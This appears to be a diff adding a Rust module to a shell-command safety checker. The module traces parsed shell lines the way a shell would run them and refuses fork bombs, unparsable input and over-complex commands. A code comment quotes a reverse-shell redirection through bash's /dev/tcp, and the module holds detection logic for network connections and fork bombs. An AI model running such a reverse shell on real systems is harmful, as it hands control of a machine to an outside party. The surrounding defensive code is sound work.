@@ -1,0 +1,380 @@
+//! Follows a parsed line the way a shell would run it, and refuses at the first danger.
+
+use super::parser::{self, Fault};
+use super::scope::{MEANINGS, Scope};
+use super::syntax::{Command, Dialect, Kind, Link, Pipeline, Redirect, Script, Statement, Word};
+use super::values::{Data, Field, Origin};
+use super::{Context, Refusal};
+use std::rc::Rc;
+
+/// Commands followed in one line; a line that needs more is refused as too complex.
+const COMMANDS: usize = 4000;
+
+/// Texts inside texts (`sh -c "sh -c …"`), and calls inside calls.
+const NESTING: usize = 24;
+
+pub(super) type Judged<T = Data> = Result<T, Refusal>;
+
+/// One reading of one line.
+pub(super) struct Judge<'a> {
+    pub context: &'a Context<'a>,
+    pub dialect: Dialect,
+    text: &'a str,
+    left: usize,
+    nesting: usize,
+}
+
+impl<'a> Judge<'a> {
+    pub fn new(context: &'a Context<'a>, dialect: Dialect, text: &'a str) -> Self {
+        Self { context, dialect, text, left: COMMANDS, nesting: 0 }
+    }
+
+    /// Whether anything in the line can set the variable: its name stands there without a dollar.
+    pub fn may_set(&self, name: &str) -> bool {
+        self.text.match_indices(name).any(|(at, _)| {
+            let before = self.text[..at].chars().next_back();
+            let after = self.text[at + name.len()..].chars().next();
+            let word = |c: Option<char>| c.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_');
+            !word(before) && !word(after) && !matches!(before, Some('$' | '{' | '!' | '#'))
+        })
+    }
+
+    /// Judges a text that a shell will run.
+    pub fn text(&mut self, text: &str, dialect: Dialect, scope: &mut Scope) -> Judged {
+        self.deeper(|judge| {
+            let before = std::mem::replace(&mut judge.dialect, dialect);
+            let result = judge.parsed(text, scope);
+            judge.dialect = before;
+            result
+        })
+    }
+
+    fn parsed(&mut self, text: &str, scope: &mut Scope) -> Judged {
+        let (script, fault) = parser::parse(text, self.dialect);
+        // What stands before the mistake runs before a shell meets it.
+        let data = self.script(&script, scope)?;
+        match fault {
+            None => Ok(data),
+            Some(Fault::Syntax(what)) => Err(Refusal::new(
+                "unparsable",
+                format!("the command is not understood ({what}), so it cannot be judged"),
+            )),
+            Some(Fault::Bounds) => Err(too_complex()),
+        }
+    }
+
+    /// Runs `judge` one text or call deeper.
+    pub fn deeper<T>(&mut self, judge: impl FnOnce(&mut Self) -> Judged<T>) -> Judged<T> {
+        if self.nesting >= NESTING {
+            return Err(too_complex());
+        }
+        self.nesting += 1;
+        let result = judge(self);
+        self.nesting -= 1;
+        result
+    }
+
+    pub fn spend(&mut self) -> Judged<()> {
+        self.left = self.left.checked_sub(1).ok_or_else(too_complex)?;
+        Ok(())
+    }
+
+    pub fn script(&mut self, script: &Script, scope: &mut Scope) -> Judged {
+        let mut output = Data::Nothing;
+        let mut ended = false;
+        for statement in &script.statements {
+            let data = self.statement(statement, scope)?;
+            output = output.then(data);
+            // What stands behind an `exit` is judged all the same: the exit may not be reached.
+            ended |= std::mem::take(&mut scope.ended);
+        }
+        scope.ended = ended;
+        Ok(output)
+    }
+
+    fn statement(&mut self, statement: &Statement, scope: &mut Scope) -> Judged {
+        if statement.background {
+            let mut fork = scope.clone();
+            fork.forks += 1;
+            self.chain(statement, &mut fork)?;
+            return Ok(Data::local());
+        }
+        self.chain(statement, scope)
+    }
+
+    /// `a && b || c`: each link may or may not run, so what it changes is one of two possibilities.
+    fn chain(&mut self, statement: &Statement, scope: &mut Scope) -> Judged {
+        let mut skipped: Vec<Scope> = Vec::new();
+        let mut output = self.pipeline(&statement.first, scope)?;
+        for (link, pipeline) in &statement.rest {
+            skipped.push(scope.clone());
+            scope.ended = false;
+            output = output.then(self.pipeline(pipeline, scope)?);
+            // `a || exit && b`: b runs only where the exit did not.
+            if scope.ended && *link == Link::Or {
+                scope.merge(skipped.pop().expect("one was pushed above"));
+            }
+        }
+        for other in skipped {
+            scope.merge(other);
+        }
+        Ok(output)
+    }
+
+    fn pipeline(&mut self, pipeline: &Pipeline, scope: &mut Scope) -> Judged {
+        if let [command] = pipeline.commands.as_slice() {
+            return self.command(command, scope);
+        }
+        let mut flowing = scope.stdin.clone();
+        for command in &pipeline.commands {
+            let mut stage = scope.clone();
+            stage.forks += 1;
+            stage.stdin = flowing;
+            flowing = self.command(command, &mut stage)?;
+            // What a stage of the pipeline writes is there afterwards.
+            scope.files.extend(stage.files);
+        }
+        Ok(flowing)
+    }
+
+    pub fn command(&mut self, command: &Rc<Command>, scope: &mut Scope) -> Judged {
+        self.spend()?;
+        if let Kind::Function { name, body } = &command.kind {
+            return self.define(name, body, scope);
+        }
+        let outer = scope.stdin.clone();
+        let writes = self.redirects(&command.redirects, scope)?;
+        let output = match &command.kind {
+            Kind::Simple(simple) => self.simple(simple, scope)?,
+            compound => self.compound(compound, scope)?,
+        };
+        scope.stdin = outer;
+        if writes.is_empty() {
+            return Ok(output);
+        }
+        for (target, append) in &writes {
+            let alone = matches!(&command.kind, Kind::Simple(simple) if simple.words.is_empty());
+            let written = if alone { Data::Nothing } else { output.clone() };
+            super::programs::writing::fills_the_disk(&command.kind, target)?;
+            super::programs::writing::redirect(self, target, *append, &written, scope)?;
+            scope.write_file(target, written, *append);
+        }
+        // zsh writes to a pipe as well as to the files.
+        Ok(if self.dialect == Dialect::Zsh { output } else { Data::Nothing })
+    }
+
+    /// Expands the redirections; inputs become what the command reads, outputs are returned.
+    fn redirects(&mut self, redirects: &[Redirect], scope: &mut Scope) -> Judged<Vec<(Field, bool)>> {
+        let mut writes = Vec::new();
+        for redirect in redirects {
+            // zsh reads one input after the other, bash the last one.
+            let before = match self.dialect {
+                Dialect::Zsh => scope.stdin.clone(),
+                _ => Data::Nothing,
+            };
+            match redirect {
+                Redirect::Read(word) => {
+                    let file = self.one(word, scope)?;
+                    scope.stdin = match is_connection(&file) {
+                        true => Data::Opaque(Origin::Fetched),
+                        false => scope.file(&file).unwrap_or_else(Data::local),
+                    };
+                }
+                Redirect::Write { target, append } => {
+                    for target in self.fields(target, scope)? {
+                        // Bash's connections go both ways: `bash >& /dev/tcp/host/port 0>&1` reads its commands there.
+                        if is_connection(&target) {
+                            scope.stdin = Data::Opaque(Origin::Fetched);
+                        }
+                        writes.push((target, *append));
+                    }
+                }
+                Redirect::Here(body) => {
+                    let word = body.get().cloned().unwrap_or_default();
+                    scope.stdin = Data::Text(self.one(&word, scope)?);
+                }
+                Redirect::Text(word) => scope.stdin = Data::Text(self.one(word, scope)?),
+                Redirect::Duplicate(word) => {
+                    self.one(word, scope)?;
+                    continue;
+                }
+            }
+            scope.stdin = before.then(std::mem::take(&mut scope.stdin));
+        }
+        Ok(writes)
+    }
+
+    fn compound(&mut self, kind: &Kind, scope: &mut Scope) -> Judged {
+        match kind {
+            Kind::Group(script) => self.script(script, scope),
+            Kind::Subshell(script) => self.subshell(script, scope),
+            Kind::If { branches, otherwise } => self.branches(branches, otherwise.as_ref(), scope),
+            Kind::Loop { condition, body } => self.repeat(condition, body, scope),
+            Kind::For { name, words, body } => self.each(name, words.as_deref(), body, scope),
+            Kind::Case { subject, arms } => self.case(subject, arms, scope),
+            Kind::Test(words) => {
+                self.note_tested(words, scope);
+                for word in words {
+                    self.fields(word, scope)?;
+                }
+                Ok(Data::Nothing)
+            }
+            Kind::Simple(_) | Kind::Function { .. } => Ok(Data::Nothing),
+        }
+    }
+
+    /// A list whose changes stay in it.
+    pub fn subshell(&mut self, script: &Script, scope: &mut Scope) -> Judged {
+        let mut inner = scope.clone();
+        let output = self.script(script, &mut inner)?;
+        scope.files.extend(inner.files);
+        scope.links.extend(inner.links);
+        scope.links.dedup();
+        scope.programs.extend(inner.programs);
+        Ok(output)
+    }
+
+    fn branches(&mut self, branches: &[(Script, Script)], otherwise: Option<&Script>, scope: &mut Scope) -> Judged {
+        let mut output = Data::Nothing;
+        let mut ways = Vec::new();
+        for (condition, body) in branches {
+            self.script(condition, scope)?;
+            let mut way = scope.clone();
+            output = output.then(self.script(body, &mut way)?);
+            ways.push(way);
+        }
+        if let Some(body) = otherwise {
+            output = output.then(self.script(body, scope)?);
+        }
+        for way in ways {
+            scope.merge(way);
+        }
+        Ok(output)
+    }
+
+    fn repeat(&mut self, condition: &Script, body: &Script, scope: &mut Scope) -> Judged {
+        if super::programs::processes::spawns_without_end(condition, body) {
+            return Err(Refusal::new(
+                "fork-bomb",
+                "the loop starts processes without end and without waiting for them",
+            ));
+        }
+        let mut skipped = scope.clone();
+        self.script(condition, scope)?;
+        let mut output = self.script(body, scope)?;
+        // A second round sees what the first one changed.
+        scope.ended = false;
+        self.script(condition, scope)?;
+        output = output.then(self.script(body, scope)?);
+        skipped.ended = false;
+        scope.ended = false;
+        scope.merge(skipped);
+        Ok(output)
+    }
+
+    fn each(&mut self, name: &str, words: Option<&[Word]>, body: &Script, scope: &mut Scope) -> Judged {
+        let mut values = Vec::new();
+        match words {
+            Some(words) => {
+                for word in words {
+                    values.extend(self.fields(word, scope)?);
+                }
+            }
+            None => values = scope.positional.clone().unwrap_or_default(),
+        }
+        let values = distinct(values)?;
+        if values.is_empty() {
+            scope.set_one(name, Field::unknown(Origin::Local));
+        } else {
+            scope.set(name, values.into_iter().map(|field| vec![field]).collect());
+        }
+        let skipped = scope.clone();
+        let mut output = self.script(body, scope)?;
+        scope.ended = false;
+        if scope.directories != skipped.directories {
+            output = output.then(self.script(body, scope)?);
+            scope.ended = false;
+        }
+        scope.merge(skipped);
+        Ok(output)
+    }
+
+    fn case(&mut self, subject: &Word, arms: &[(Vec<Word>, Script)], scope: &mut Scope) -> Judged {
+        self.fields(subject, scope)?;
+        let mut output = Data::Nothing;
+        let start = scope.clone();
+        for (patterns, body) in arms {
+            for pattern in patterns {
+                self.fields(pattern, scope)?;
+            }
+            let mut way = start.clone();
+            output = output.then(self.script(body, &mut way)?);
+            scope.merge(way);
+        }
+        Ok(output)
+    }
+
+    /// A body is judged where it is defined, with arguments that are not known, and again at each call.
+    fn define(&mut self, name: &str, body: &Rc<Command>, scope: &mut Scope) -> Judged {
+        scope.functions.insert(name.to_owned(), Rc::clone(body));
+        let mut trial = scope.clone();
+        trial.positional = None;
+        trial.calls.push((name.to_owned(), trial.forks));
+        self.deeper(|judge| judge.command(body, &mut trial))?;
+        Ok(Data::Nothing)
+    }
+
+    /// Calls a function; one that calls itself beside another process multiplies without end.
+    pub fn call(&mut self, name: &str, arguments: &[Field], scope: &mut Scope) -> Judged {
+        if let Some((_, forks)) = scope.calls.iter().find(|(called, _)| called == name) {
+            if scope.forks > *forks {
+                return Err(Refusal::new(
+                    "fork-bomb",
+                    format!("the function `{name}` starts itself again in new processes"),
+                ));
+            }
+            return Ok(Data::local());
+        }
+        let Some(body) = scope.functions.get(name).cloned() else {
+            return Ok(Data::Nothing);
+        };
+        let outer = scope.positional.replace(arguments.to_vec());
+        scope.calls.push((name.to_owned(), scope.forks));
+        let output = self.deeper(|judge| judge.command(&body, scope));
+        scope.calls.pop();
+        scope.positional = outer;
+        scope.ended = false;
+        output
+    }
+}
+
+/// A connection to the network, by bash's own names for one.
+pub(super) fn is_connection(file: &Field) -> bool {
+    let name = file.visible();
+    name.starts_with("/dev/tcp/") || name.starts_with("/dev/udp/")
+}
+
+pub(super) fn too_complex() -> Refusal {
+    Refusal::new(
+        "too-complex",
+        "the command is nested too deeply or does too much to be judged; split it, or run a script file",
+    )
+}
+
+/// The values that differ in what they can do: plain numbers and names are all alike.
+fn distinct(values: Vec<Field>) -> Judged<Vec<Field>> {
+    let mut kept: Vec<Field> = Vec::new();
+    let mut plain = 0;
+    for value in values {
+        let harmless = value.known().is_some_and(|text| text.starts_with(|c: char| c.is_ascii_digit()));
+        plain += usize::from(harmless);
+        if harmless && plain > 4 || kept.contains(&value) {
+            continue;
+        }
+        kept.push(value);
+    }
+    if kept.len() > MEANINGS {
+        return Err(too_complex());
+    }
+    Ok(kept)
+}
